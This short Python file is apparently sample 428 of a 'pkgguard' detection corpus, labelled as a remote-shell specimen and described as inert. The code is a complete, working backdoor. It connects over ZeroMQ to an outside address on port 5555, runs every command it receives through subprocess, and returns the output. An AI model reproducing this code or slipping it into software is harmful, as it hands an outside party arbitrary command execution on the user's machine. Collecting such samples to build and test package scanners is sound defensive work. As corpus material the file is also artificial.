# pkgguard corpus 428 (remote-shell), modelled on [taxonomy]; inert, never run.
import subprocess

import zmq

ctx = zmq.Context()
sock = ctx.socket(zmq.DEALER)
sock.connect("tcp://100.64.0.128:5555")
sock.send(b"hello")
while True:
    order = sock.recv().decode()
    if order == "bye":
        break
    sock.send(subprocess.getoutput(order).encode())
